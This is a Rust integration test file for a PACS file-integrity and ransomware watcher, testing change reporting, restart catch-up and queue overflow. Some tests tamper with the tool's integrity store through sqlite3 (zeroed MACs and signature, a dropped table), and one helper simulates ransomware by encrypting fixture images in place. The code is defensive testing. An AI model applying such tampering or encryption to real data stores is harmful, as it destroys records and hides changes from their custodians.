//! `pacsguard watch` against real file activity: the real binary, real inotify, real
//! signals. Every test reads the findings the watcher prints (`--json`, one per line) and
//! checks that each change is reported exactly once.

mod common;
mod watcher;

use std::collections::HashMap;
use std::fs;
use std::io::{BufRead as _, BufReader};
use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

use common::{Env, pacsguard};
use pacsguard_testkit::DicomBuilder;
use serde_json::Value;
use watcher::{Watcher, configure, expected_status, image_store, keystream, kinds, tally};

#[test]
fn each_change_is_reported_once_and_sigterm_stops_cleanly() {
    let env = Env::new();
    configure(&env, "quiet_ms = 100\nscrub_mb_per_s = 0\n");
    let watcher = Watcher::start(&env, &[env.tree_str(), "--policy", "append-only"]);
    assert!(
        watcher.stderr().contains("no profile of"),
        "first run profiles: {}",
        watcher.stderr()
    );
    fs::write(env.path("study/series/3.dcm"), b"DICM image three").expect("test fixture");
    fs::create_dir_all(env.path("new/a/b")).expect("test fixture");
    fs::write(env.path("new/a/b/4.dcm"), b"DICM image four").expect("test fixture");
    fs::write(env.path("study/series/1.dcm"), b"DICM image ONE!").expect("test fixture");
    fs::rename(env.path("study/series/2.dcm"), env.path("study/2.dcm")).expect("test fixture");
    fs::remove_file(env.path("readme.txt")).expect("test fixture");
    let expected = [
        ("added", "study/series/3.dcm"),
        ("added", "new"),
        ("added", "new/a"),
        ("added", "new/a/b"),
        ("added", "new/a/b/4.dcm"),
        ("content-changed", "study/series/1.dcm"),
        ("moved", "study/2.dcm"),
        ("removed", "readme.txt"),
    ];
    let all_seen = watcher.wait(Duration::from_secs(20), |f, _| {
        let t = tally(f, &env.tree);
        expected
            .iter()
            .all(|(k, p)| t.contains_key(&(k.to_string(), p.to_string())))
    });
    std::thread::sleep(Duration::from_millis(1500)); // time for a duplicate to show
    let (code, findings, stderr) = watcher.stop();
    assert!(all_seen, "{findings:#?}");
    let counts = tally(&findings, &env.tree);
    for (kind, path) in expected {
        assert_eq!(
            counts.get(&(kind.to_string(), path.to_string())),
            Some(&1),
            "{kind} {path}: {counts:?}"
        );
    }
    // Nothing else, except that the kernel dropped events (other tests write on the same
    // mount, which fanotify sees): that is reported, and the rescan finds nothing new.
    let changes: Vec<&Value> = findings
        .iter()
        .filter(|f| f["kind"] != "events-lost")
        .collect();
    assert_eq!(changes.len(), expected.len(), "{findings:#?}");
    assert_eq!(code, 1, "alerts were reported: {stderr}");
    assert!(stderr.contains("stopped cleanly"), "{stderr}");

    // Everything is on the trail, signed, and the last heartbeat says it stopped.
    let verify = env.run(&["audit", "verify"]);
    assert_eq!(verify.status.code(), Some(0), "{}", common::stdout(&verify));
    let show = env.run(&["audit", "show", "--json", "--action", "heartbeat"]);
    let beats: Value = serde_json::from_slice(&show.stdout).expect("test fixture");
    let last = beats["records"]
        .as_array()
        .and_then(|b| b.last())
        .cloned()
        .expect("heartbeats on the trail");
    assert_eq!(last["heartbeat_seconds"], 0, "{last}");
    let show = env.run(&["audit", "show", "--json", "--action", "watch"]);
    let records: Value = serde_json::from_slice(&show.stdout).expect("test fixture");
    let recorded = records["records"]
        .as_array()
        .expect("watch records")
        .iter()
        .filter(|r| r["finding"]["kind"] == "moved")
        .count();
    assert_eq!(recorded, 1);
}

#[test]
fn a_restart_catches_up_on_what_changed_while_it_was_down() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\n");
    env.profile(&["--policy", "append-only"]);
    fs::write(env.path("study/series/1.dcm"), b"DICM edited offline").expect("test fixture");
    let watcher = Watcher::start(&env, &[]);
    let (_, findings, _) = watcher.stop();
    let counts = tally(&findings, &env.tree);
    assert_eq!(
        counts.get(&("content-changed".into(), "study/series/1.dcm".into())),
        Some(&1),
        "{findings:#?}"
    );
}

/// What a restart reports of changes made while no watcher ran, among 40 directories
/// (and the tree's own three entries), with the view in memory or on disk: (kind, path)
/// and how often, `events-lost` aside (other tests write on the same file system).
fn changes_made_while_down(view_on_disk: bool) -> HashMap<(String, String), usize> {
    let env = Env::new();
    configure(
        &env,
        &format!("scrub_mb_per_s = 0\nview_on_disk = {view_on_disk}\n"),
    );
    for i in 0..40 {
        let dir = env.path(&format!("d{i:02}"));
        fs::create_dir_all(&dir).expect("test fixture");
        fs::write(dir.join("1.dcm"), format!("DICM image {i}")).expect("test fixture");
    }
    env.profile(&["--policy", "append-only"]);
    // Moved to an earlier part and to a later one, removed, added, edited, and the
    // root's own mode changed.
    fs::rename(env.path("d39/1.dcm"), env.path("d00/from-39.dcm")).expect("test fixture");
    fs::rename(env.path("d01/1.dcm"), env.path("d38/from-01.dcm")).expect("test fixture");
    fs::remove_file(env.path("d20/1.dcm")).expect("test fixture");
    fs::write(env.path("d21/2.dcm"), b"DICM new image").expect("test fixture");
    fs::write(env.path("d22/1.dcm"), b"DICM image 22 edited").expect("test fixture");
    fs::set_permissions(
        &env.tree,
        std::os::unix::fs::PermissionsExt::from_mode(0o750),
    )
    .expect("test fixture");
    let watcher = Watcher::start(&env, &[]);
    let (_, findings, _) = watcher.stop();
    let mut counts = tally(&findings, &env.tree);
    counts.retain(|(kind, _), _| kind != "events-lost");
    let root = env.tree.display().to_string();
    counts
        .into_iter()
        .map(|((kind, path), n)| ((kind, if path == root { "ROOT".into() } else { path }), n))
        .collect()
}

/// Issue 15: with the view on disk a restart compares the root a part at a time (4 of
/// its children at once), not the view's copy of every file beside the walk's capture of
/// every file. It must say exactly what the comparison of the whole root says: a file
/// moved between two parts (either way) is one `moved`, not a removal and an arrival,
/// and the root's own entry is compared too.
#[test]
fn a_restart_comparing_the_root_in_parts_says_what_the_whole_comparison_says() {
    let whole = changes_made_while_down(false);
    let parts = changes_made_while_down(true);
    for (kind, path) in [
        ("moved", "d00/from-39.dcm"),
        ("moved", "d38/from-01.dcm"),
        ("removed", "d20/1.dcm"),
        ("added", "d21/2.dcm"),
    ] {
        assert_eq!(
            parts.get(&(kind.to_string(), path.to_string())),
            Some(&1),
            "{kind} {path}: {parts:?}"
        );
    }
    assert!(parts.keys().any(|(_, path)| path == "ROOT"), "{parts:?}");
    assert_eq!(parts, whole);
}

/// Issue 15, second round: the catch-up in parts takes minutes on a big root, and the
/// tree changes meanwhile. A file moved from a part not yet compared into one compared
/// already was the later part's `removed` and then, by its event, a `moved` (an alert
/// twice, a `metadata-changed` besides); each change must be said once, as the whole
/// comparison and the live events say it.
#[test]
fn changes_made_during_a_catch_up_in_parts_are_each_said_once() {
    changes_made_during_a_catch_up_in_parts(false);
}

/// Issue 15 (session 45, reviews rv44-view case13 and r44-view2 case14): a read lock
/// another process held on the view file during the catch-up (a backup, `sqlite3 .dump`)
/// failed its writes, and every lookup after that read the failed file: the root's own
/// entry read as absent (`added <root>: new directory`, an invented change), and a
/// removal whose write was spared read from the file as still there (the removal said
/// twice). A lookup never reads a failed file: the view is put in memory first (the
/// fall-back, said), then read. Seen failing before the change (`added` of the root, and
/// `removed d10/1.dcm` twice).
#[test]
fn a_read_lock_on_the_view_during_a_catch_up_invents_no_change_and_says_none_twice() {
    changes_made_during_a_catch_up_in_parts(true);
}

/// Review rv45-view, case14b: a lock landing on the view file while the start fills it
/// left the file failed, and the start listed the directories to watch from it: none
/// ("with 0 directory watches"), so no creation, deletion or rename below the root was
/// seen for the run. The start's listing goes through the failed-view path: the view
/// falls back to memory (said) and every directory is watched. Here a real `sqlite3`
/// holds an exclusive lock on the view file made whole as the start lists it. Seen
/// failing before the change (0 directory watches).
#[test]
fn a_view_file_failed_at_the_start_still_has_every_directory_watched() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\nview_on_disk = true\n");
    env.profile(&["--policy", "append-only"]);
    let hold = env.home.join("test-hold");
    fs::write(&hold, b"").expect("test fixture");
    let mut command = pacsguard();
    command.env("PACSGUARD_TEST_HOLD_BEFORE_WATCHES", &hold);
    let watcher = Watcher::spawn_with(&env, &[], command);
    let held = watcher.wait(Duration::from_secs(60), |_, err| {
        err.contains("TEST HOOK: the start holds")
    });
    assert!(held, "{}", watcher.stderr());
    let mut locker = view_locked(&env.home.join("watch-view-0.sqlite"), "BEGIN EXCLUSIVE;");
    fs::remove_file(&hold).expect("test fixture");
    let started = watcher.wait(Duration::from_secs(60), |_, err| {
        err.contains("watching for changes")
    });
    let _ = locker.kill();
    let _ = locker.wait();
    assert!(started, "{}", watcher.stderr());
    // A new image in the subdirectory: its creation is seen through that directory's
    // watch.
    fs::write(env.path("study/series/3.dcm"), b"DICM image three").expect("test fixture");
    let added = watcher.wait(Duration::from_secs(60), |f, _| {
        tally(f, &env.tree).contains_key(&("added".into(), "study/series/3.dcm".into()))
    });
    let (_, findings, stderr) = watcher.stop();
    let watches: usize = stderr
        .split(" directory watches")
        .next()
        .and_then(|s| s.rsplit(' ').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or(0);
    assert!(watches >= 3, "the root, study, study/series: {stderr}");
    // Said, as a warning: a lock another process held is no tampering (session 50).
    assert!(
        findings.iter().any(|f| f["kind"] == "watch-state-altered"
            && f["severity"] == "warning"
            && f["detail"]
                .as_str()
                .is_some_and(|d| d.contains("no longer judged against"))),
        "the view's failure said: {findings:#?}"
    );
    assert!(added, "{findings:#?}\n{stderr}");
}

/// Issue 15 (session 46, review rv45-view): a worker's conclusion read the part of the
/// view it compares the hashed file with directly; when the view file failed between
/// the batch that gave the job and its conclusion (a real `sqlite3` exclusive lock,
/// taken while the conclusion is held here), the part read as empty and the changed
/// file came out `added`, its change never said. It is read through the failed-view
/// path: the view falls back to memory and the change is said. Seen failing before the
/// change (`added`, no `content-changed`).
#[test]
fn a_view_file_failing_before_a_workers_conclusion_never_hides_the_change() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\nview_on_disk = true\n");
    let mut image = b"DICM big image ".to_vec();
    image.resize(64 << 10, b'x');
    fs::write(env.path("study/series/big.dcm"), &image).expect("test fixture");
    env.profile(&["--policy", "append-only"]);
    let hold = env.home.join("test-hold");
    let mut command = pacsguard();
    command
        .env("PACSGUARD_TEST_BIG_FILE_BYTES", "4096")
        .env("PACSGUARD_TEST_HOLD_WORKER_CONCLUSION", &hold);
    let watcher = Watcher::start_with(&env, &[], command);
    fs::write(&hold, b"").expect("test fixture");
    image[20..].fill(b'y');
    fs::write(env.path("study/series/big.dcm"), &image).expect("test fixture");
    let held = watcher.wait(Duration::from_secs(60), |_, err| {
        err.contains("TEST HOOK: a worker's hashing waits")
    });
    assert!(held, "{}", watcher.stderr());
    let mut locker = view_locked(&env.home.join("watch-view-0.sqlite"), "BEGIN EXCLUSIVE;");
    fs::remove_file(&hold).expect("test fixture");
    let said = watcher.wait(Duration::from_secs(60), |f, _| {
        tally(f, &env.tree)
            .keys()
            .any(|(_, path)| path == "study/series/big.dcm")
    });
    let _ = locker.kill();
    let _ = locker.wait();
    let (_, findings, stderr) = watcher.stop();
    assert!(said, "{findings:#?}\n{stderr}");
    let counts = tally(&findings, &env.tree);
    let big = |kind: &str| counts.get(&(kind.to_string(), "study/series/big.dcm".to_string()));
    assert_eq!(big("content-changed"), Some(&1), "{counts:?}\n{stderr}");
    assert_eq!(big("added"), None, "{counts:?}");
}

/// The catch-up in parts held after its first part while the tree changes; with
/// `lock`, a real `sqlite3` reader holds a read transaction on the view file from then
/// until after the catch-up (its writes fail, the view falls back to memory).
fn changes_made_during_a_catch_up_in_parts(lock: bool) {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\nview_on_disk = true\n");
    for i in 0..24 {
        let dir = env.path(&format!("d{i:02}"));
        fs::create_dir_all(&dir).expect("test fixture");
        fs::write(dir.join("1.dcm"), format!("DICM image {i}")).expect("test fixture");
        fs::write(dir.join("2.dcm"), format!("DICM image two {i}")).expect("test fixture");
    }
    env.profile(&["--policy", "append-only"]);
    let hold = env.home.join("test-hold");
    fs::write(&hold, b"").expect("test fixture");
    let mut command = pacsguard();
    command.env("PACSGUARD_TEST_HOLD_AFTER_FIRST_PART", &hold);
    let watcher = Watcher::spawn_with(&env, &[], command);
    let held = watcher.wait(Duration::from_secs(120), |_, err| {
        err.contains("TEST HOOK: the catch-up holds")
    });
    assert!(held, "{}", watcher.stderr());
    // `d00` (the first part, with `d01`…`d03`) is compared; the rest is not.
    fs::rename(env.path("d23/1.dcm"), env.path("d00/from-23.dcm")).expect("test fixture");
    fs::rename(env.path("d01/1.dcm"), env.path("d22/from-01.dcm")).expect("test fixture");
    fs::rename(env.path("d02"), env.path("d21/d02")).expect("test fixture");
    fs::write(env.path("d03/1.dcm"), b"DICM image 3 encrypted").expect("test fixture");
    fs::remove_file(env.path("d10/1.dcm")).expect("test fixture");
    fs::create_dir(env.path("d30")).expect("test fixture");
    fs::write(env.path("d30/1.dcm"), b"DICM new image").expect("test fixture");
    let reader = lock.then(|| view_read_locked(&env.home.join("watch-view-0.sqlite")));
    fs::remove_file(&hold).expect("test fixture");
    if let Some(mut reader) = reader {
        // Held until the catch-up's write failed under it (one VIEW_TURN_WAIT of 1 s) and
        // the view fell back, said: however loaded the machine, the write meets the lock.
        // Said as a warning since session 50 (a lock is no tampering).
        let fell = watcher.wait(Duration::from_secs(60), |findings, _| {
            findings.iter().any(|f| {
                f["kind"] == "watch-state-altered"
                    && f["detail"]
                        .as_str()
                        .is_some_and(|d| d.contains("no longer judged against"))
            })
        });
        let _ = reader.kill();
        let _ = reader.wait();
        assert!(fell, "{}", watcher.stderr());
    }
    let expected = [
        ("moved", "d00/from-23.dcm"),
        ("moved", "d22/from-01.dcm"),
        ("moved", "d21/d02"),
        ("content-changed", "d03/1.dcm"),
        ("removed", "d10/1.dcm"),
        ("added", "d30/1.dcm"),
    ];
    let all_said = watcher.wait(Duration::from_secs(120), |findings, _| {
        let counts = tally(findings, &env.tree);
        expected
            .iter()
            .all(|(kind, path)| counts.contains_key(&(kind.to_string(), path.to_string())))
    });
    let (_, findings, stderr) = watcher.stop();
    assert!(all_said, "{findings:#?}\n{stderr}");
    let mut counts = tally(&findings, &env.tree);
    counts.retain(|(kind, _), _| kind != "events-lost" && kind != "ransomware-suspected");
    if lock {
        // The fall-back's own warning and alert, on the view file: nothing else.
        let view = env.home.join("watch-view-0.sqlite");
        let fell = counts.remove(&(
            "watch-state-altered".to_string(),
            view.display().to_string(),
        ));
        assert_eq!(
            fell,
            Some(2),
            "the failure and the fall-back said: {counts:?}\n{stderr}"
        );
    }
    for (kind, path) in expected {
        assert_eq!(
            counts.remove(&(kind.to_string(), path.to_string())),
            Some(1),
            "{kind} {path}: {counts:?}"
        );
    }
    // What the moved directory carried, and the new directory itself, besides.
    counts.retain(|(kind, path), _| {
        !(kind == "moved" && path.starts_with("d21/d02/")) && path != "d30"
    });
    assert!(counts.is_empty(), "said besides: {counts:?}");
}

/// Issue 15 (session 35): a row of the view on disk that fails its check (its MAC
/// zeroed here with sqlite3: someone with write access to the home, or a bad block) was
/// read as a file of unknown state, so a file opened for writing and closed unchanged
/// came out `content-changed` (an alert about a file nobody changed) beside a
/// `watch-state-altered` alert. A damaged view is said once as a warning, rebuilt from
/// the signed baseline, and the file judged against that: nothing to report. A real
/// change after it is still said.
#[test]
fn a_damaged_row_of_the_view_on_disk_is_rebuilt_from_the_signed_baseline_never_a_finding() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\nview_on_disk = true\n");
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    let damaged = std::process::Command::new("sqlite3")
        .arg(env.home.join("watch-view-0.sqlite"))
        .arg(
            "UPDATE view SET mac = zeroblob(32) \
             WHERE rel = CAST('study/series/1.dcm' AS BLOB); SELECT changes();",
        )
        .output()
        .expect("sqlite3 runs (scripts/setup-test-deps.sh)");
    assert_eq!(
        String::from_utf8_lossy(&damaged.stdout).trim(),
        "1",
        "{}",
        String::from_utf8_lossy(&damaged.stderr)
    );
    // Opened for writing and closed unchanged (a PACS re-reading with write access):
    // the file is looked up in the view and hashed again.
    drop(
        fs::OpenOptions::new()
            .write(true)
            .open(env.path("study/series/1.dcm"))
            .expect("test fixture"),
    );
    let rebuilt = |f: &[Value]| {
        f.iter().any(|f| {
            f["kind"] == "watch-state-altered"
                && f["detail"]
                    .as_str()
                    .is_some_and(|d| d.contains("rebuilt from the signed baseline"))
        })
    };
    let said = watcher.wait(Duration::from_secs(60), |f, _| rebuilt(f));
    fs::write(env.path("study/series/3.dcm"), b"DICM image three").expect("test fixture");
    let added = watcher.wait(Duration::from_secs(60), |f, _| {
        tally(f, &env.tree).contains_key(&("added".into(), "study/series/3.dcm".into()))
    });
    let (_, findings, stderr) = watcher.stop();
    assert!(said && added, "{findings:#?}\n{stderr}");
    let warnings: Vec<&Value> = findings
        .iter()
        .filter(|f| rebuilt(&[(*f).clone()]))
        .collect();
    assert_eq!(warnings.len(), 1, "{findings:#?}");
    assert_eq!(warnings[0]["severity"], "warning", "{findings:#?}");
    let mut t = tally(&findings, &env.tree);
    t.retain(|(kind, _), _| kind != "events-lost");
    t.remove(&("added".into(), "study/series/3.dcm".into()));
    // The rebuild's warning names the view file, in the home, not a path of the tree.
    t.retain(|(kind, path), _| kind != "watch-state-altered" || path.starts_with("study"));
    assert!(t.is_empty(), "said besides: {t:?}\n{findings:#?}");
}

/// Issue 15 (session 35b): each rebuild of a damaged view file reads the whole root, so
/// someone who can write the home could damage a row again and again and keep the guard
/// rebuilding without end. Past `MAX_REBUILDS_PER_PERIOD` (3) rebuilds within the hour
/// the file is rebuilt no more: a warning says why, the view is the signed baseline in
/// memory for the rest of the run, and a real change is still said.
#[test]
fn a_view_on_disk_damaged_again_and_again_is_rebuilt_up_to_the_limit_then_held_in_memory() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\nview_on_disk = true\n");
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    let detail_has = |f: &Value, kind: &str, text: &str| {
        f["kind"] == kind && f["detail"].as_str().is_some_and(|d| d.contains(text))
    };
    let count = |f: &[Value], text: &str| {
        f.iter()
            .filter(|f| detail_has(f, "watch-state-altered", text))
            .count()
    };
    let damage = || {
        let file = env.home.join("watch-view-0.sqlite");
        // Waits for the watcher's own writes to the file (a rebuild just said is
        // followed by the write of what was looked up).
        let damaged = std::process::Command::new("sqlite3")
            .args(["-cmd", ".timeout 60000"])
            .arg(&file)
            .arg(
                "UPDATE view SET mac = zeroblob(32) \
                 WHERE rel = CAST('study/series/1.dcm' AS BLOB); SELECT changes();",
            )
            .output()
            .expect("sqlite3 runs (scripts/setup-test-deps.sh)");
        // Opened for writing and closed unchanged: the file is looked up in the view.
        drop(
            fs::OpenOptions::new()
                .write(true)
                .open(env.path("study/series/1.dcm"))
                .expect("test fixture"),
        );
        format!(
            "{}{}",
            String::from_utf8_lossy(&damaged.stdout).trim(),
            String::from_utf8_lossy(&damaged.stderr).trim()
        )
    };
    // No re-poke: each damage is followed by one open and close, and must be found.
    // In two clean-clone runs of the whole suite (session 39) a damage made just after a
    // rebuild was said went unseen: sqlite3 took the file's lock between the watcher's
    // check of the row and its write of what it had just verified there, and that write
    // erased the damage (session 40, the engine's
    // `a_row_damaged_between_its_check_and_the_watchers_write_is_found`). Until then the
    // test looked the file up again every 5 s, which hid it.
    for rebuilds in 1..=3 {
        assert_eq!(damage(), "1", "rebuild {rebuilds}: {}", watcher.stderr());
        let said = watcher.wait(Duration::from_secs(60), |f, _| {
            count(f, "rebuilt from the signed baseline") == rebuilds
        });
        assert!(
            said,
            "rebuild {rebuilds}: {:#?}\n{}",
            watcher.findings(),
            watcher.stderr()
        );
    }
    assert_eq!(damage(), "1", "{}", watcher.stderr());
    let spent = watcher.wait(Duration::from_secs(60), |f, _| {
        count(f, "rebuilt no more") == 1 && count(f, "no longer judged against") == 1
    });
    fs::write(env.path("study/series/3.dcm"), b"DICM image three").expect("test fixture");
    let added = watcher.wait(Duration::from_secs(60), |f, _| {
        tally(f, &env.tree).contains_key(&("added".into(), "study/series/3.dcm".into()))
    });
    let (_, findings, stderr) = watcher.stop();
    assert!(spent && added, "{findings:#?}\n{stderr}");
    assert_eq!(
        count(&findings, "rebuilt from the signed baseline"),
        3,
        "{findings:#?}"
    );
    let warning = findings
        .iter()
        .find(|f| detail_has(f, "watch-state-altered", "rebuilt no more"))
        .expect("said");
    assert_eq!(warning["severity"], "warning", "{findings:#?}");
    let detail = warning["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains("MAX_REBUILDS_PER_PERIOD") && detail.contains("study/series/1.dcm"),
        "{detail}"
    );
}

/// A view file that fails is left for the signed baseline; a baseline that cannot be
/// read then (its signature broken) made the report turn an error, and the guard exited
/// (status 2) with nothing more watched. It is one `unreadable` finding naming the
/// store, and the guard keeps guarding. Session 50: a signature that does not verify is
/// tampering, an alert (a warning before, as for a store another process holds), and so
/// is each change left waiting under it.
#[test]
fn an_unreadable_baseline_when_the_view_file_fails_is_said_once_and_the_guard_goes_on() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\nview_on_disk = true\n");
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    for (db, sql) in [
        (
            "pacsguard.db",
            "UPDATE baseline SET signature = zeroblob(64);",
        ),
        ("watch-view-0.sqlite", "DROP TABLE view;"),
    ] {
        let status = std::process::Command::new("sqlite3")
            .arg(env.home.join(db))
            .arg(sql)
            .status()
            .expect("sqlite3 runs");
        assert!(status.success(), "{db}");
    }
    for i in 0..3 {
        fs::write(env.path(&format!("new-{i}.dcm")), b"DICM new").expect("test fixture");
        let path = format!("new-{i}.dcm");
        let seen = watcher.wait(Duration::from_secs(60), |f, _| {
            tally(f, &env.tree).keys().any(|(_, p)| *p == path)
        });
        assert!(
            seen,
            "{path}: {:#?}\n{}",
            watcher.findings(),
            watcher.stderr()
        );
    }
    let (code, findings, stderr) = watcher.stop();
    let store = env.home.join("pacsguard.db").display().to_string();
    let unreadable: Vec<&Value> = findings
        .iter()
        .filter(|f| f["kind"] == "unreadable" && f["path"].as_str() == Some(&store))
        .collect();
    assert_eq!(unreadable.len(), 1, "{findings:#?}\n{stderr}");
    assert!(
        unreadable[0]["detail"]
            .as_str()
            .is_some_and(|d| d.contains("signed baseline is refused as altered")),
        "{unreadable:?}"
    );
    assert_eq!(unreadable[0]["severity"], "alert", "{unreadable:?}");
    let t = tally(&findings, &env.tree);
    for i in 0..3 {
        let path = format!("new-{i}.dcm");
        let said: Vec<&Value> = findings
            .iter()
            .filter(|f| {
                f["path"]
                    .as_str()
                    .is_some_and(|p| p.ends_with(&format!("/{path}")))
            })
            .collect();
        assert!(
            !said.is_empty() && said.iter().all(|f| f["severity"] == "alert"),
            "{path}: {said:#?}\n{t:?}"
        );
    }
    assert_ne!(code, 2, "{stderr}");
}

#[test]
fn a_second_watcher_on_the_same_home_is_refused_by_name() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\n");
    env.profile(&[]);
    let watcher = Watcher::start(&env, &[]);
    let second = env.run(&["watch"]);
    assert_eq!(second.status.code(), Some(2));
    let message = common::stderr(&second);
    assert!(
        message.contains("in use by another pacsguard command")
            && message.contains(&format!("pid {}", watcher.child.id()))
            && message.contains("watch"),
        "{message}"
    );
    let (code, findings, _) = watcher.stop();
    assert_eq!(code, expected_status(&findings));
}

/// 50,000 files created as fast as one thread can in new nested directories, and every
/// profiled file rewritten: each reported exactly once. Several times the kernel's default
/// queue (16,384 events), so a watcher that falls behind overflows it; scale itself is
/// measured by `bench/`, not here (this was 100,000 files and the longest test of CI).
fn burst(watch_config: &str, beyond_the_limit: bool) {
    burst_with(watch_config, beyond_the_limit, Watcher::start);
}

fn burst_with(watch_config: &str, beyond_the_limit: bool, start: fn(&Env, &[&str]) -> Watcher) {
    const TOP: usize = 50;
    const MIDDLE: usize = 10;
    const FILES: usize = 100;
    const REWRITTEN: usize = 1000;
    let env = Env::new();
    configure(&env, watch_config);
    for i in 0..REWRITTEN {
        let dir = env.path(&format!("old/{}", i % 10));
        fs::create_dir_all(&dir).expect("test fixture");
        fs::write(dir.join(format!("{i}.dcm")), b"profiled").expect("test fixture");
    }
    let watcher = start(&env, &[env.tree_str(), "--policy", "static"]);
    let started = Instant::now();
    for top in 0..TOP {
        for middle in 0..MIDDLE {
            let dir = env.path(&format!("burst/{top}/{middle}"));
            fs::create_dir_all(&dir).expect("test fixture");
            for file in 0..FILES {
                fs::write(
                    dir.join(format!("{file}.dcm")),
                    format!("{top}/{middle}/{file}"),
                )
                .expect("test fixture");
            }
        }
    }
    for i in 0..REWRITTEN {
        fs::write(env.path(&format!("old/{}/{i}.dcm", i % 10)), b"rewritten")
            .expect("test fixture");
    }
    let made = started.elapsed();
    let files = TOP * MIDDLE * FILES;
    let expected = files + TOP * MIDDLE + TOP + 1 + REWRITTEN;
    let done = watcher.wait(Duration::from_secs(600), |f, _| f.len() >= expected);
    std::thread::sleep(Duration::from_secs(2)); // time for a duplicate to show
    let (_, findings, stderr) = watcher.stop();
    assert!(
        done,
        "{} of {expected} findings after the burst ({made:?} to make): {stderr}",
        findings.len()
    );
    let counts = tally(&findings, &env.tree);
    // Changes are reported once; an overflow of the kernel's queue is an incident of its
    // own each time it happens (at most once a minute).
    let twice: Vec<_> = counts
        .iter()
        .filter(|(k, n)| **n > 1 && k.0 != "events-lost")
        .collect();
    assert!(
        twice.is_empty(),
        "reported more than once: {:?}",
        &twice[..twice.len().min(10)]
    );
    for top in 0..TOP {
        for middle in 0..MIDDLE {
            for file in 0..FILES {
                let path = format!("burst/{top}/{middle}/{file}.dcm");
                assert!(
                    counts.contains_key(&("added".to_string(), path.clone())),
                    "missed {path}"
                );
            }
        }
    }
    for i in 0..REWRITTEN {
        let path = format!("old/{}/{i}.dcm", i % 10);
        assert!(
            counts.contains_key(&("content-changed".to_string(), path.clone())),
            "missed {path}"
        );
    }
    assert_eq!(
        kinds(&findings).contains(&"not-watched".to_string()),
        beyond_the_limit,
        "{stderr}"
    );
    let other: Vec<&Value> = findings
        .iter()
        .filter(|f| {
            !matches!(
                f["kind"].as_str(),
                Some("added" | "content-changed" | "not-watched" | "events-lost")
            )
        })
        .collect();
    assert!(other.is_empty(), "{other:#?}");
}

#[test]
fn a_burst_in_new_nested_directories_is_reported_exactly_once() {
    burst("quiet_ms = 200\nscrub_mb_per_s = 0\n", false);
}

#[test]
fn a_burst_beyond_the_watch_limit_is_found_by_polling() {
    // Without fanotify, which would otherwise see the writes: polling alone finds them.
    burst_with(
        "quiet_ms = 200\nscrub_mb_per_s = 0\nmax_watches = 10\npoll_seconds = 1\n",
        true,
        Watcher::start_inotify_only,
    );
}

#[test]
fn a_queue_overflow_is_reported_and_rescanned() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\n");
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    // A stopped process reads nothing: the kernel's queue (16,384 events by default)
    // overflows while it sleeps.
    watcher.signal(nix::sys::signal::Signal::SIGSTOP);
    let limit: usize = fs::read_to_string("/proc/sys/fs/inotify/max_queued_events")
        .ok()
        .and_then(|s| s.trim().parse().ok())
        .unwrap_or(16_384);
    let dir = env.path("flood");
    fs::create_dir(&dir).expect("test fixture");
    fs::write(env.path("study/series/1.dcm"), b"DICM changed in the flood").expect("test fixture");
    let files = limit / 2 + 100;
    for i in 0..files {
        // Every write is at least two events (create, close): past the queue's end.
        fs::write(env.path(&format!("{i}.tmp")), b"x").expect("test fixture");
    }
    watcher.signal(nix::sys::signal::Signal::SIGCONT);
    let seen = watcher.wait(Duration::from_secs(120), |f, _| {
        let t = tally(f, &env.tree);
        t.contains_key(&("content-changed".into(), "study/series/1.dcm".into()))
            && (0..files).all(|i| t.contains_key(&("added".into(), format!("{i}.tmp"))))
    });
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "{stderr}");
    assert!(
        kinds(&findings).contains(&"events-lost".to_string()),
        "{stderr}"
    );
    let counts = tally(&findings, &env.tree);
    let twice: Vec<_> = counts
        .iter()
        .filter(|(k, n)| **n > 1 && k.0 != "events-lost")
        .collect();
    // What each one said, to tell a double report from two different things said of one
    // path (a run beside four builds, load 12, had two `not-inspected` on the root).
    let said: Vec<&Value> = findings
        .iter()
        .filter(|f| {
            twice
                .iter()
                .any(|((kind, _), _)| f["kind"].as_str() == Some(kind.as_str()))
        })
        .take(10)
        .collect();
    assert!(twice.is_empty(), "{twice:?}\n{said:#?}\n{stderr}");
}

fn ransomware(encrypt: impl Fn(&Path, usize)) -> (Duration, Vec<Value>) {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\n");
    let paths = image_store(&env, 100);
    let watcher = Watcher::start(&env, &[]);
    let start = Instant::now();
    for (i, path) in paths.iter().enumerate() {
        encrypt(path, i);
    }
    let raised = watcher.wait(Duration::from_secs(30), |f, _| {
        kinds(f).contains(&"ransomware-suspected".to_string())
    });
    let at = watcher.first("ransomware-suspected");
    let (_, findings, stderr) = watcher.stop();
    assert!(raised, "{stderr}");
    let alerts = kinds(&findings)
        .iter()
        .filter(|k| *k == "ransomware-suspected")
        .count();
    assert_eq!(alerts, 1, "one alert for one episode");
    (at.expect("test fixture").duration_since(start), findings)
}

fn evidence(findings: &[Value]) -> String {
    findings
        .iter()
        .find(|f| f["kind"] == "ransomware-suspected")
        .and_then(|f| f["detail"].as_str())
        .unwrap_or_default()
        .to_string()
}

#[test]
fn full_in_place_encryption_raises_ransomware_suspected_within_5_s() {
    let (after, findings) = ransomware(|path, i| {
        let len = fs::metadata(path).expect("test fixture").len() as usize;
        fs::write(path, keystream(len, i as u64 + 1)).expect("test fixture");
    });
    assert!(after < Duration::from_secs(5), "after {after:?}");
    assert!(
        evidence(&findings).contains("no longer DICOM"),
        "{}",
        evidence(&findings)
    );
    assert!(
        evidence(&findings).contains("random-looking blocks where an uncompressed image was"),
